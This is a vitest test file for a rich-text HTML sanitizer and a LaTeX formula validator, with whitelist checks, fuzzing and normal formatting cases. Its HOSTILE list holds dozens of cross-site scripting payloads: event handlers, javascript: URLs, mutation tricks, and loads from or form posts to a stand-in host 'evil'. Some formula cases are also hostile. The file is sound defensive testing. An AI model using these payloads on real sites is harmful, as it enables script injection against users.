// Rich text as it comes in: what is kept, what is not, and that nothing that could act gets through.
import { plainOf } from '@clearbelt/domain/kinds/rich/plain'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { checkFormulae, cleanRich, isFormula } from './rich.ts'

/** All that may stand in a stored rich text, element by element. */
const STORED =
  /^(?:[^<>"]|<\/?(?:p|strong|em|u|code|sub|sup|ul|ol|li|table|tbody|tr|pre)>|<br>|<t[dh](?: colspan="\d+")?(?: rowspan="\d+")?>|<\/t[dh]>|<span data-tex="[^<>"]*"><\/span>|<img data-picture="[^<>"]*" alt="[^<>"]*">)*$/

/** What pages have been made to run, by kinds of trick; each would do `alert(1)` or load `evil`. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img data-picture="7" src="https://evil/p" onload="alert(1)" style="position:fixed" class="ant-modal">',
  `<img data-picture='"><script>alert(1)</script>' alt='" onerror="alert(1)'>`,
  '<img alt="`><script>alert(1)</script>" data-picture=1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="https://evil/" target=_blank>x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src=//evil>',
  '<base href="//evil/"><link rel=stylesheet href=//evil/x.css><meta http-equiv=refresh content="0;url=//evil">',
  '<style>@import "//evil/x.css"; * { color: red }</style>',
  '<p style="background:url(javascript:alert(1));width:expression(alert(1))" onclick=alert(1) id=root class=x>a</p>',
  '<div style="position:fixed;inset:0;z-index:99">cover</div>',
  '<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)><video><source onerror=alert(1)>',
  '<form action=//evil><input name=password><button formaction=javascript:alert(1)>go',
  '<marquee onstart=alert(1)>x</marquee><blink>y</blink>',
  '<span data-tex="x" onmouseover=alert(1) contenteditable style=color:red>x</span>',
  `<span data-tex='"></span><img src=x onerror=alert(1)>'>`,
  '<td colspan="9999999999" rowspan="-1" onclick=alert(1)>x',
  '<table background="javascript:alert(1)"><tr><td background=//evil>x',
  '<img/src/onerror=alert(1)><p/onclick=alert(1)>x',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<p\u0000 onclick=alert(1)>x</p\u0000>',
  '<\u0000script>alert(1)</script>',
  '\u2028<script>alert(1)</script>\u2029',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  'a&#1;b&#x0;c<span data-tex="&#2;x"></span>&#xFFFF;',
  '=HYPERLINK("http://evil","x")',
  '{{constructor.constructor("alert(1)")()}}',
  '<template><script>alert(1)</script></template>',
  '<slot name=x><custom-element onclick=alert(1)>x</custom-element>',
  '<o:p onclick=alert(1)>word</o:p><v:shape style="behavior:url(#default#VML)" onload=alert(1)>',
  '<p>' + '<div>'.repeat(3000) + '<script>alert(1)</script>',
  '<'.repeat(5000),
  '<a '.repeat(3000) + '"',
  '<p x="'.repeat(3000),
]

describe('[T-47] what comes from outside cannot act', () => {
  test.each(HOSTILE.map((html) => [html.slice(0, 80), html]))('%s', (_, html) => {
    const clean = cleanRich(html)
    expect(clean).toMatch(STORED)
    expect(cleanRich(clean)).toBe(clean)
  })

  test('whatever is put together of it, and cleaning twice changes nothing', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE.filter((html) => html.length < 200)),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '/',
        '=',
        '&',
        ';',
        '<!--',
        '-->',
        '<p>',
        '</p>',
        '<b>',
        '<td>',
        '<li>',
        '<pre>',
        '\n',
        ' on',
        '\ud800',
      ),
      fc.constantFrom('#', 'x', 'lt', 'gt', 'amp', 'quot', 'nbsp', '&#1', '&#0;', '&#10;', '&#13;', '&#x26;', '&#x3c;'),
      fc.constantFrom('&#x7f;', '&#x80;', '&#xd800;', '&#xfffe;', '&#x1f600;', '&#x110000;', '&NewLine;', '&Tab;'),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const clean = cleanRich(pieces.join(''))
        expect(clean).toMatch(STORED)
        expect(cleanRich(clean)).toBe(clean)
      }),
      { numRuns: 1500 },
    )
  })
})

describe('what people write', () => {
  test.each<[string, string, string]>([
    ['plain lines stay lines', 'one\ntwo', 'one<br>two'],
    ['signs before words are signs', 'if x<y and y>z then a<b', 'if x&lt;y and y&gt;z then a&lt;b'],
    ['so they are beside elements', '<p>x<y</p>', 'x&lt;y'],
    ['and below a number', '5 < 6 & 7 > 3', '5 &lt; 6 &amp; 7 &gt; 3'],
    ['looks of other names', '<b>a</b><i>b</i><ins>c</ins>', '<strong>a</strong><em>b</em><u>c</u>'],
    ['links are their words', 'see <a href="https://a.b/">here</a>', 'see here'],
    ['words of other elements stay', '<font color=red><o:p>a</o:p></font><kbd>b</kbd>', 'ab'],
    ['a script leaves nothing', 'a<script>b</script><style>c</style>d', 'ad'],
    [
      'tables of Word',
      '<table class=MsoTable style="x" border=1><tr><td width=9 colspan=2><p class=MsoNormal>a<o:p></o:p></p></td></tr></table>',
      '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
    ],
    ['formulae', 'so <span class="math" data-tex=" E = mc^2 ">?</span>', 'so <span data-tex="E = mc^2"></span>?'],
    [
      'pictures by their ids',
      '<img data-picture="12" alt="A bag" width=9 src="/x">',
      '<img data-picture="12" alt="A bag">',
    ],
    ['signs that nobody sees, by their numbers', 'a&#1b<p>c&#x1f;&#127;d&#xfffe;</p>', '<p>ab</p><p>cd</p>'],
    ['letters of the world', '违禁品 ñ 😀 𠮷 &nbsp;x', '违禁品 ñ 😀 𠮷 \u00a0x'],
  ])('%s', (_, html, clean) => expect(cleanRich(html)).toBe(clean))

  test('plain words come out as they went in', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('a', 'é', '违', ' ', '.', '(', '1', "'", '%', '😀') }), (text) => {
        expect(plainOf(cleanRich(text))).toBe(text.replaceAll(/ +/g, ' ').trim())
      }),
    )
  })
})

describe('formulae', () => {
  test.each([
    'x^2',
    '\\frac{a}{b}',
    '\\text{违禁品}',
    '\\begin{pmatrix}1&2\\\\3&4\\end{pmatrix}',
    'a<b>c',
    '\\ce'.slice(0, 0) + '\\sqrt[3]{x}',
  ])('%s can be drawn', (tex) => expect(isFormula(tex)).toBe(true))
  test.each([
    '\\frac{a',
    '\\nosuchcommand',
    '\\href{javascript:alert(1)}{x}',
    '\\url{https://evil}',
    '\\includegraphics{https://evil/x.png}',
    '\\htmlData{a=b}{x}',
    '\\def\\a{\\a\\a}\\a',
    'x'.repeat(2001),
  ])('%s cannot', (tex) => expect(isFormula(tex)).toBe(false))

  test('one that cannot be drawn is said at the field', () => {
    expect(() => checkFormulae('a <span data-tex="\\frac{"></span>', 'items.3.titleRT')).toThrow(
      expect.objectContaining({ fields: [{ path: 'items.3.titleRT' }] }),
    )
    expect(() => checkFormulae('a <span data-tex="x"></span>', 'f')).not.toThrow()
  })
})
